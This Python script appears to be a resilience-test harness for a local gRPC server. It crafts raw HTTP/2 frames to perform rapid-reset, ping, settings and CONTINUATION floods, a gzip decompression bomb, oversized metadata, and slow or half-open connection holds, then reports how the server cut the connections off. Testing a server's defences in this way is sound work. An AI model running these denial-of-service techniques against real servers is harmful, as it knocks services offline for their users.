"""An abuser of HTTP/2, in a process of its own: frames made by hand, as no client library would send them.

Each way of abuse fills a connection with something for as long as it is told, opens the next one when the server ends
it, and holds or floods. Where a way needs no credential it shows none; `gzip_bomb` is also sent by who has one. At the
end one line of JSON says what was sent and how often the server cut it off.

Usage: python http2_abuser.py <way> <port> <seconds> [token]
"""

from __future__ import annotations

import gzip
import json
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from functools import cache

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = "/points.v1.CatalogService/GetServerInfo"
STREAMS_PER_CONNECTION = 128
HALF_OPEN_CONNECTIONS = 40
"""With the streams of each, more than the server serves at once."""

SILENT_CONNECTIONS = 200
FLOODS_AT_ONCE = 4
BOMB_BYTES = 60_000_000
"""Some 60,000 when it is packed, which fits into the window that every stream begins with."""

DRIP_S = 0.2


@dataclass
class Told:
    """What came of it."""

    connections: int = 0
    frames: int = 0
    octets: int = 0
    ended: int = 0
    goaways: dict[str, int] = field(default_factory=dict)


class Connection:
    """A connection of the abuser. What the server says is read and thrown away, except why it ends."""

    def __init__(self, port: int, told: Told, *, preface: bool = True) -> None:
        self.told = told
        self.next_stream = 1
        self._read = b""
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.socket.settimeout(0.5)
        told.connections += 1
        if preface:
            self.socket.sendall(PREFACE + SettingsFrame(0).serialize())

    def send(self, *frames: Frame) -> None:
        """Sends frames; raises OSError once the server has ended the connection."""
        self.send_raw(b"".join(one.serialize() for one in frames), len(frames))

    def send_raw(self, content: bytes, frames: int) -> None:
        """Sends frames as bytes."""
        self.socket.sendall(content)
        self.told.frames += frames
        self.told.octets += len(content)

    def stream(self) -> int:
        """The id of a new stream."""
        self.next_stream += 2
        return self.next_stream - 2

    def hear(self) -> None:
        """Reads what has come; raises OSError once the server has ended the connection."""
        while select.select([self.socket], [], [], 0)[0]:
            came = self.socket.recv(65536)
            if not came:
                raise ConnectionResetError
            self._read += came
            self._look()

    def _look(self) -> None:
        while len(self._read) >= 9:
            length = int.from_bytes(self._read[:3])
            if len(self._read) < 9 + length:
                return
            if self._read[3] == GoAwayFrame.type:
                code = str(int.from_bytes(self._read[13:17]))
                self.told.goaways[code] = self.told.goaways.get(code, 0) + 1
            self._read = self._read[9 + length :]


def headers(token: str = "", **more: str) -> bytes:
    """The head of a call, in a form that depends on nothing that was sent before."""
    fields = {":method": "POST", ":scheme": "http", ":path": PATH, ":authority": "localhost", "te": "trailers"}
    fields |= {"content-type": "application/grpc", "user-agent": "abuser"}
    fields |= {"authorization": f"Bearer {token}"} if token else {}
    fields |= {name.replace("_", "-"): value for name, value in more.items()}
    return Encoder().encode([(name, value, True) for name, value in fields.items()])


def head(stream: int, block: bytes, *, ends: bool = True) -> HeadersFrame:
    """The frame with a head; `ends`: all of it."""
    return HeadersFrame(stream, block, flags=["END_HEADERS"] if ends else [])


def data(stream: int, content: bytes, *, ends: bool = False) -> DataFrame:
    """A frame of a body."""
    return DataFrame(stream, content, flags=["END_STREAM"] if ends else [])


# -- floods: what is sent again and again over one connection


def rapid_reset(one: Connection, token: str) -> Iterator[None]:
    """Calls that are complete, and taken back at once."""
    block = headers(token)
    while True:
        frames: list[Frame] = []
        for _ in range(50):
            stream = one.stream()
            frames += [head(stream, block), data(stream, bytes(5), ends=True), RstStreamFrame(stream, error_code=8)]
        one.send(*frames)
        yield


def ping_flood(one: Connection, _: str) -> Iterator[None]:
    """Pings, whose answers nobody waits for."""
    block = PingFrame(0, b"12345678").serialize() * 200
    while True:
        one.send_raw(block, 200)
        yield


def settings_flood(one: Connection, _: str) -> Iterator[None]:
    """Settings, each of which has to be acknowledged."""
    block = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize() * 200
    while True:
        one.send_raw(block, 200)
        yield


def continuation_flood(one: Connection, _: str) -> Iterator[None]:
    """A head that never ends."""
    stream = one.stream()
    one.send(head(stream, headers(), ends=False))
    more = Encoder().encode([(f"x-{number}", "v" * 1000, True) for number in range(15)])
    block = ContinuationFrame(stream, more).serialize()
    while True:
        one.send_raw(block, 1)
        yield


def oversized_metadata(one: Connection, token: str) -> Iterator[None]:
    """Calls with 60 KB of metadata each."""
    block = headers(token, **{f"x_{number}": "v" * 4000 for number in range(15)})
    while True:
        stream = one.stream()
        parts = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
        frames: list[Frame] = [head(stream, parts[0], ends=False)]
        frames += [ContinuationFrame(stream, part) for part in parts[1:]]
        frames[-1].flags.add("END_HEADERS")
        one.send(*frames, data(stream, bytes(5), ends=True))
        yield


def gzip_bomb(one: Connection, token: str) -> Iterator[None]:
    """Messages that are a thousand times as large as they look."""
    message = _bomb()
    block = headers(token, grpc_encoding="gzip")
    while True:
        stream = one.stream()
        one.send(head(stream, block))
        for start in range(0, len(message), 16_000):
            one.send(data(stream, message[start : start + 16_000], ends=start + 16_000 >= len(message)))
        one.send(WindowUpdateFrame(0, window_increment=65_535))
        yield
        time.sleep(0.05)  # the window of the connection has to be opened again


@cache
def _bomb() -> bytes:
    packed = gzip.compress(bytes(BOMB_BYTES))
    return b"\x01" + struct.pack(">I", len(packed)) + packed


def flood(way: Callable[[Connection, str], Iterator[None]], port: int, until: float, token: str) -> Told:
    """Fills a few connections, each replaced when it was ended."""
    told = Told()
    open_now: dict[int, tuple[Connection, Iterator[None]]] = {}
    while time.monotonic() < until:
        for place in range(FLOODS_AT_ONCE):
            try:
                if place not in open_now:
                    connection = Connection(port, told)
                    open_now[place] = (connection, way(connection, token))
                connection, steps = open_now[place]
                next(steps)
                connection.hear()
            except OSError:
                told.ended += 1
                if place in open_now:
                    open_now.pop(place)[0].socket.close()
    return told


# -- what is held


def silent(port: int, until: float, _: str) -> Told:
    """Connections that say nothing, say the preface and nothing more, or send the half of a frame."""
    told = Told()
    held = []
    for number in range(SILENT_CONNECTIONS):
        one = Connection(port, told, preface=number % 3 != 0)
        if number % 3 == 2:
            one.send_raw(head(1, headers()).serialize()[:20], 1)
        held.append(one)
    return _hold(held, until, told, lambda: None)


def half_open(port: int, until: float, token: str) -> Told:
    """Calls whose message never comes, more of them than the server serves at once."""
    told = Told()
    return _hold(_half_open(port, told, token), until, told, lambda: None)


def slow_drip(port: int, until: float, token: str) -> Told:
    """As many calls whose messages come a byte at a time."""
    told = Told()
    held = _half_open(port, told, token)
    for one in held:
        one.send(*(data(stream, b"\x00\x00\x00\xff\xff") for stream in range(1, one.next_stream, 2)))

    def drip() -> None:
        for one in list(held):
            try:
                one.send(*(data(stream, b"x") for stream in range(1, one.next_stream, 2)))
            except OSError:
                held.remove(one)
                told.ended += 1

    return _hold(held, until, told, drip)


def _half_open(port: int, told: Told, token: str) -> list[Connection]:
    held = []
    block = headers(token)
    for _ in range(HALF_OPEN_CONNECTIONS):
        one = Connection(port, told)
        one.send(*(head(one.stream(), block) for _ in range(STREAMS_PER_CONNECTION)))
        held.append(one)
    return held


def _hold(held: list[Connection], until: float, told: Told, go_on: Callable[[], None]) -> Told:
    while time.monotonic() < until:
        go_on()
        for one in list(held):
            try:
                one.hear()
            except OSError:
                held.remove(one)
                told.ended += 1
        time.sleep(DRIP_S)
    return told


FLOODS = {
    one.__name__: one
    for one in (rapid_reset, ping_flood, settings_flood, continuation_flood, oversized_metadata, gzip_bomb)
}
HOLDS = {one.__name__: one for one in (silent, half_open, slow_drip)}


def main() -> None:
    """Abuses once it is told to, and says what came of it."""
    print("ready", flush=True)
    sys.stdin.readline()
    way, port, seconds, token = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), "".join(sys.argv[4:])
    until = time.monotonic() + seconds
    told = HOLDS[way](port, until, token) if way in HOLDS else flood(FLOODS[way], port, until, token)
    print(json.dumps(asdict(told)), flush=True)


if __name__ == "__main__":
    main()
